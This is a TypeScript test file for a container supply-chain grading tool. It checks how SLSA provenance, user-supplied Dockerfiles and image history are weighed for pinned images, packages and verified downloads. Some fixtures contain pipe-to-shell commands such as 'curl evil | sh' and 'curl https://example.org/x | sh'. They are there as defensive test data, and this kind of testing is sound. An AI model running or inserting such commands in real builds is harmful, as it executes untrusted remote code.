import { describe, expect, test } from 'vitest';
import { pinnedImages } from '../../src/criteria/pinned-images.ts';
import { pinnedPackages } from '../../src/criteria/pinned-packages.ts';
import { trustedSource } from '../../src/criteria/trusted-source.ts';
import { verifiedDownloads } from '../../src/criteria/verified-downloads.ts';
import { type GivenDockerfile, gradedBuild } from '../../src/grade/grade-build.ts';
import { type BuildFact, type Fact, known } from '../../src/model/facts.ts';
import { type ImageConfig, MEDIA_TYPE } from '../../src/model/image.ts';
import { digestOf } from '../../src/model/reference.ts';
import { type FoundAttestation, PREDICATE_TYPE } from '../../src/model/statement.ts';
import { declared, factsOf } from './facts-builder.ts';

const IMAGE = digestOf('image');
const HEX = 'b'.repeat(64);

const config = (...history: readonly string[]): ImageConfig => ({
  architecture: 'amd64',
  os: 'linux',
  rootfs: { type: 'layers', diff_ids: [] },
  history: history.map((created_by) => ({ created_by })),
});

/** SLSA v0.2 as BuildKit writes it. */
const provenance = (
  dockerfile: string | undefined,
  more: Partial<FoundAttestation> & { readonly digest?: never; readonly base?: string } = {},
): FoundAttestation => {
  const { base = HEX, ...found } = more;
  const data = Buffer.from(dockerfile ?? '').toString('base64');
  const infos = [{ filename: 'Dockerfile', language: 'Dockerfile', data }];
  const own = { 'https://mobyproject.org/buildkit@v1#metadata': { source: { infos } } };
  const finished = { buildFinishedOn: '2026-11-20T10:00:00Z' };
  return {
    predicateType: PREDICATE_TYPE.slsaProvenanceV02,
    subjects: [IMAGE],
    source: 'bundle-referrer',
    verification: 'unverified',
    predicate: {
      builder: { id: 'https://builder.example' },
      buildType: 'https://mobyproject.org/buildkit@v1',
      materials: [{ uri: 'pkg:docker/debian@trixie', digest: { sha256: base } }],
      invocation: { parameters: { args: { 'build-arg:VERSION': '2' } } },
      metadata: dockerfile === undefined ? finished : { ...finished, ...own },
    },
    ...found,
  };
};

const INDEX = digestOf('index');
const descriptor = { mediaType: MEDIA_TYPE.manifest, digest: IMAGE, size: 5 };

const graded = (inputs: {
  readonly attestations?: readonly FoundAttestation[];
  readonly config?: ImageConfig;
  readonly file?: GivenDockerfile;
}) =>
  gradedBuild(
    { root: { ...descriptor, digest: INDEX } },
    { descriptor, config: inputs.config ?? config() },
    known({ signatures: [], attestations: inputs.attestations ?? [] }, 'unverified-attestation'),
    inputs.file,
  );
const valueOf = (fact: Fact<BuildFact>): BuildFact => {
  if (!fact.known) throw new Error(fact.reason);
  return fact.value;
};
const facts = (build: Fact<BuildFact>) =>
  factsOf({
    build,
    declarations: known(declared({ now: Date.parse('2026-11-24T00:00:00Z') }), 'build'),
  });

describe('provenance', () => {
  test('gives the Dockerfile, the digests of what it names, the end, and the arguments', async () => {
    const { fact, buildArgs, notices } = await graded({
      attestations: [provenance('FROM debian:trixie\nRUN true\n', { verification: 'verified' })],
    });
    const value = valueOf(fact);
    expect(fact.known && fact.source).toBe('verified-attestation');
    expect(value.dockerfile).toMatchObject({ known: true, source: 'verified-attestation' });
    expect(value.images).toMatchObject({
      value: [{ text: 'debian:trixie', digest: `sha256:${HEX}`, role: 'base' }],
    });
    expect(value.finishedAt).toBe('2026-11-20T10:00:00Z');
    expect([buildArgs, notices]).toEqual([{ VERSION: '2' }, []]);
  });

  test('the verified one counts, and that another says otherwise is told', async () => {
    const { fact, notices } = await graded({
      attestations: [
        provenance('FROM alpine:3\n', { source: 'buildkit-manifest' }),
        provenance('FROM debian:trixie\n', { verification: 'verified' }),
      ],
    });
    expect(valueOf(fact).images).toMatchObject({ value: [{ text: 'debian:trixie' }] });
    expect(notices).toEqual([
      'the provenance statements disagree on the Dockerfile; the verified one counts',
    ]);
    const materials = await graded({
      attestations: [provenance(undefined), provenance(undefined, { base: 'c'.repeat(64) })],
    });
    expect(materials.notices[0]).toContain('disagree on the digest of pkg:docker/debian@trixie');
  });

  test('one about the index is about the platform', async () => {
    const { fact } = await graded({
      attestations: [provenance('FROM debian\n', { subjects: [INDEX] })],
    });
    expect(valueOf(fact).dockerfile.known).toBe(true);
  });

  test('one that failed, or is about another image, is not looked at', async () => {
    const { fact } = await graded({
      attestations: [
        provenance('FROM debian\n', { verification: 'failed' }),
        provenance('FROM debian\n', { subjects: [digestOf('other')] }),
      ],
    });
    expect(fact).toMatchObject({ known: false, settle: 'scoville grade --file Dockerfile IMAGE' });
  });

  test.each([
    [
      'unverified',
      'dockerfile',
      'my.Dockerfile counts; the provenance, which nobody signed, has another Dockerfile',
    ],
    [
      'verified',
      'verified-attestation',
      'my.Dockerfile is not the Dockerfile in the verified provenance, which counts',
    ],
  ] as const)('%s, beside a file that the user names', async (verification, source, notice) => {
    const file = { name: 'my.Dockerfile', text: 'FROM alpine\n' };
    const attestations = [provenance('FROM debian\n', { verification })];
    const { fact, notices } = await graded({ attestations, file });
    expect(valueOf(fact).dockerfile).toMatchObject({ source });
    expect(notices).toEqual([notice]);
  });

  test('one that does not fit the image is not used, and that is told', async () => {
    const contradicts = 'line 2 of the Dockerfile is not in the image’s history';
    const { fact, notices } = await graded({
      attestations: [provenance('FROM debian\n', { contradicts })],
    });
    expect(fact.known).toBe(false);
    expect(notices).toEqual([
      `a provenance that nobody signed does not fit the image and is not used: ${contradicts}`,
    ]);
  });

  test('one whose base was not compared earns nothing that its Dockerfile says', async () => {
    const text = `FROM debian:trixie@sha256:${HEX}\nRUN apt-get install -y curl=1\n`;
    const unchecked = 'debian@sha256:b was not fetched (offline)';
    const verdicts = async (more: Parameters<typeof provenance>[1], file?: GivenDockerfile) => {
      const inputs = { attestations: [provenance(text, more)] };
      const { fact } = await graded(file === undefined ? inputs : { ...inputs, file });
      return [trustedSource, pinnedImages, verifiedDownloads, pinnedPackages].map((criterion) => {
        const { outcome, summary } = criterion.judge(facts(fact));
        return `${outcome}: ${summary}`;
      });
    };
    const told = `nobody signed the provenance, and its base was not compared with the image: ${unchecked}`;
    for (const verdict of await verdicts({ unchecked })) {
      expect(verdict).toMatch(/^unknown: /);
      expect(verdict).toContain(told);
    }
    const outcomes = (all: readonly string[]) => all.map((one) => one.split(':')[0]);
    const earned = ['pass', 'pass', 'not-applicable', 'pass'];
    expect(outcomes(await verdicts({}))).toEqual(earned);
    expect(outcomes(await verdicts({ unchecked, verification: 'verified' }))).toEqual(earned);
    expect(outcomes(await verdicts({ unchecked }, { name: 'Dockerfile', text }))).toEqual(earned);
  });

  test('one whose base was compared goes before one whose base was not', async () => {
    const { fact } = await graded({
      attestations: [
        provenance('FROM alpine:3\n', { unchecked: 'offline' }),
        provenance('FROM debian:trixie\n', { source: 'buildkit-manifest' }),
      ],
    });
    expect(valueOf(fact).images).toMatchObject({ value: [{ text: 'debian:trixie' }] });
  });

  test('a file that the history does not fit counts, and that is told', async () => {
    const { notices } = await graded({
      file: { name: 'my.Dockerfile', text: 'FROM alpine\nRUN true\n' },
      config: {
        ...config('RUN /bin/sh -c curl evil | sh # buildkit'),
        rootfs: { type: 'layers', diff_ids: [IMAGE] },
      },
    });
    expect(notices).toEqual([
      'my.Dockerfile may not be this image’s: line 2 of the Dockerfile is not in the image’s history',
    ]);
  });

  test('a history of another builder, on a base of BuildKit, does not tell', async () => {
    const { notices } = await graded({
      file: { name: 'my.Dockerfile', text: 'FROM alpine\nRUN true\n' },
      config: {
        ...config('COPY / / # buildkit', '|1 V=1 /bin/sh -c true', '/bin/sh -c #(nop) USER 1'),
        rootfs: { type: 'layers', diff_ids: [IMAGE, IMAGE, IMAGE] },
      },
    });
    expect(notices).toEqual([]);
    // buildah 1.39.3: its steps are one layer, that of the last.
    const steps = ['/bin/sh -c true', '/bin/sh -c #(nop) USER 1', '/bin/sh -c #(nop) CMD ["a"]'];
    const [base, ...own] = config('COPY / / # buildkit', ...steps).history ?? [];
    const history = [base ?? {}, ...own.map((one, i) => ({ ...one, empty_layer: i < 2 }))];
    const buildah = await graded({
      file: { name: 'my.Dockerfile', text: 'FROM alpine\nRUN true\nUSER 1\nCMD ["a"]\n' },
      config: { ...config(), history, rootfs: { type: 'layers', diff_ids: [IMAGE, IMAGE] } },
    });
    expect(buildah.notices).toEqual([]);
    expect(valueOf(buildah.fact).dockerfile).toMatchObject({ known: true, source: 'dockerfile' });
  });

  test('without a Dockerfile in it, the file that the user names is read', async () => {
    const file = { name: 'Dockerfile', text: 'FROM debian:trixie\n' };
    const { fact } = await graded({ attestations: [provenance(undefined)], file });
    const value = valueOf(fact);
    expect(value.dockerfile).toMatchObject({ known: true, source: 'dockerfile' });
    expect(value.images).toMatchObject({ value: [{ digest: `sha256:${HEX}` }] });
    expect(value.finishedAt).toBe('2026-11-20T10:00:00Z');
  });
});

test('a file that is no Dockerfile is the user’s to mend', async () => {
  await expect(graded({ file: { name: 'README', text: 'hello\n' } })).rejects.toThrow(
    /^README, line 1: /,
  );
});

describe('the history', () => {
  const outcomes = async (...history: readonly string[]) => {
    const { fact } = await graded({ config: config(...history) });
    const all = facts(fact);
    return [verifiedDownloads, pinnedPackages, pinnedImages, trustedSource].map(
      (criterion) => criterion.judge(all).outcome,
    );
  };

  test('shows what is wrong, and never that all is well', async () => {
    expect(
      await outcomes('RUN /bin/sh -c curl https://example.org/x | sh # buildkit', 'CMD ["sh"]'),
    ).toEqual(['fail', 'unknown', 'unknown', 'unknown']);
    expect(await outcomes('/bin/sh -c apt-get install -y curl')).toEqual([
      'unknown',
      'fail',
      'unknown',
      'unknown',
    ]);
    expect(await outcomes('RUN /bin/sh -c true # buildkit')).toEqual(Array(4).fill('unknown'));
    expect(await outcomes('CMD ["sh"]')).toEqual(Array(4).fill('unknown'));
  });

  test('is marked as the image’s own word', async () => {
    const { fact } = await graded({ config: config('RUN /bin/sh -c true # buildkit') });
    expect(valueOf(fact).dockerfile).toMatchObject({ known: true, source: 'image' });
    expect(fact.known && fact.source).toBe('image');
  });
});
